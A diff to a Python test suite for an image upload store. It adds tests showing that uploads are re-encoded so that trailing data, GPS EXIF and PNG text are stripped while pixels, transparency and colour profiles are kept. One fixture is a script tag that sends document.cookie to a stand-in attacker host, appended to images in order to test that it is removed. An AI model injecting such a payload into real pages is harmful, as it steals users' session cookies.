@@ -68,10 +68,12 @@ def reject(store: MediaStore, data: bytes, filename: str, declared: str | None) 
 def test_valid_image_is_stored_with_type_and_size(store, fmt, filename, declared, content_type):
     data = image_bytes(fmt, (64, 48))
     media = store.ingest(io.BytesIO(data), filename, declared)
-    assert (media.content_type, media.width, media.height, media.size) == (content_type, 64, 48, len(data))
-    assert media.sha256 == hashlib.sha256(data).hexdigest()
+    stored = store.path(media.sha256).read_bytes()
+    assert (media.content_type, media.width, media.height, media.size) == (content_type, 64, 48, len(stored))
+    assert media.sha256 == hashlib.sha256(stored).hexdigest()  # the digest of what is stored
     assert media.created is True
-    assert store.path(media.sha256).read_bytes() == data
+    with Image.open(io.BytesIO(stored)) as im:
+        assert (im.format, im.size) == (fmt, (64, 48))
     assert store.path(media.sha256) == store.root / media.sha256[:2] / media.sha256
 
 
@@ -86,7 +88,9 @@ def test_thumbnail_applies_exif_orientation(store):
     exif[0x0112] = 6  # Orientation: rotate 90° clockwise to display
     data = image_bytes("JPEG", (400, 200), exif=exif.tobytes())
     media = store.ingest(io.BytesIO(data), "camera.jpg", "image/jpeg")
-    assert (media.width, media.height) == (400, 200)  # the stored pixels, unrotated
+    assert (media.width, media.height) == (200, 400)  # stored upright: the orientation is applied
+    with Image.open(store.path(media.sha256)) as stored:
+        assert stored.size == (200, 400) and 0x0112 not in stored.getexif()
     with Image.open(store.thumbnail_path(media.sha256)) as thumb:
         assert thumb.size == (160, 320)
 
@@ -95,6 +99,97 @@ def test_transparent_png_gets_a_thumbnail(store):
     media = store.ingest(io.BytesIO(image_bytes("PNG", (50, 50), mode="RGBA")), "logo.png", None)
     with Image.open(store.thumbnail_path(media.sha256)) as thumb:
         assert thumb.mode == "RGB"
+
+
+# --- stored re-encoded from the decoded pixels ----------------------------------------------------
+
+SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
+
+
+def test_data_after_a_png_s_end_is_not_stored(store):
+    data = image_bytes("PNG") + SCRIPT
+    media = store.ingest(io.BytesIO(data), "a.png", "image/png")
+    stored = store.path(media.sha256).read_bytes()
+    assert SCRIPT not in stored and b"<script" not in stored
+    assert stored.endswith(b"IEND\xaeB`\x82")  # the file ends with the image
+    assert media.sha256 == hashlib.sha256(stored).hexdigest() != hashlib.sha256(data).hexdigest()
+
+
+def test_data_after_a_jpeg_s_end_is_not_stored(store):
+    media = store.ingest(io.BytesIO(image_bytes("JPEG") + SCRIPT), "a.jpg", "image/jpeg")
+    stored = store.path(media.sha256).read_bytes()
+    assert SCRIPT not in stored and stored.endswith(b"\xff\xd9")
+
+
+def gps_exif() -> Image.Exif:
+    exif = Image.Exif()
+    exif[0x010F] = "PhoneMaker"  # Make
+    gps = exif.get_ifd(0x8825)
+    gps[1], gps[2] = "N", (15.0, 7.0, 12.0)  # GPSLatitudeRef, GPSLatitude
+    gps[3], gps[4] = "E", (108.0, 48.0, 0.0)
+    return exif
+
+
+@pytest.mark.parametrize(("fmt", "filename"), [("JPEG", "gps.jpg"), ("PNG", "gps.png"), ("WEBP", "gps.webp")])
+def test_exif_with_a_gps_position_is_not_stored(store, fmt, filename):
+    data = image_bytes(fmt, exif=gps_exif().tobytes())
+    with Image.open(io.BytesIO(data)) as sent:
+        assert sent.getexif().get_ifd(0x8825)  # the upload does carry a position
+    media = store.ingest(io.BytesIO(data), filename, None)
+    stored = store.path(media.sha256).read_bytes()
+    assert b"PhoneMaker" not in stored and b"Exif" not in stored
+    with Image.open(io.BytesIO(stored)) as im:
+        assert not im.getexif().get_ifd(0x8825) and len(im.getexif()) == 0
+
+
+def test_png_text_chunks_are_not_stored(store):
+    from PIL.PngImagePlugin import PngInfo
+
+    info = PngInfo()
+    info.add_text("Comment", "secret note")
+    media = store.ingest(io.BytesIO(image_bytes("PNG", pnginfo=info)), "a.png", "image/png")
+    assert b"secret note" not in store.path(media.sha256).read_bytes()
+
+
+def test_png_pixels_and_transparency_are_kept_exactly(store):
+    im = Image.new("RGBA", (30, 20), (10, 20, 30, 0))
+    im.putpixel((3, 4), (200, 100, 50, 128))
+    out = io.BytesIO()
+    im.save(out, "PNG")
+    media = store.ingest(io.BytesIO(out.getvalue() + SCRIPT), "a.png", "image/png")
+    with Image.open(store.path(media.sha256)) as stored:
+        assert stored.mode == "RGBA" and stored.tobytes() == im.tobytes()
+
+
+def test_the_icc_colour_profile_is_kept(store):
+    from PIL import ImageCms
+
+    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
+    media = store.ingest(io.BytesIO(image_bytes("JPEG", icc_profile=icc)), "a.jpg", "image/jpeg")
+    with Image.open(store.path(media.sha256)) as stored:
+        assert stored.info.get("icc_profile") == icc
+
+
+def test_a_jpeg_is_re_encoded_at_a_sane_quality(store):
+    from PIL import ImageChops, ImageStat
+
+    photo = Image.radial_gradient("L").resize((256, 256)).convert("RGB")
+    out = io.BytesIO()
+    photo.save(out, "JPEG", quality=95)
+    media = store.ingest(io.BytesIO(out.getvalue()), "photo.jpg", "image/jpeg")
+    with Image.open(io.BytesIO(out.getvalue())) as sent, Image.open(store.path(media.sha256)) as stored:
+        luma_steps = list(stored.quantization[0])
+        # Mean luminance step: quality 100 is 1 (files several times larger), 90 about 11.5, 50 about 58.
+        assert 2 < sum(luma_steps) / len(luma_steps) < 15
+        error = ImageStat.Stat(ImageChops.difference(sent.convert("RGB"), stored.convert("RGB"))).mean
+        assert max(error) < 2.0  # mean absolute difference per channel, out of 255
+
+
+def test_the_same_pixels_with_other_metadata_or_trailing_data_are_stored_once(store):
+    plain = image_bytes("PNG")
+    first = store.ingest(io.BytesIO(plain), "a.png", "image/png")
+    second = store.ingest(io.BytesIO(image_bytes("PNG", exif=gps_exif().tobytes()) + SCRIPT), "b.png", None)
+    assert (first.created, second.created) == (True, False) and first.sha256 == second.sha256
 
 
 def test_same_bytes_are_stored_once(store):
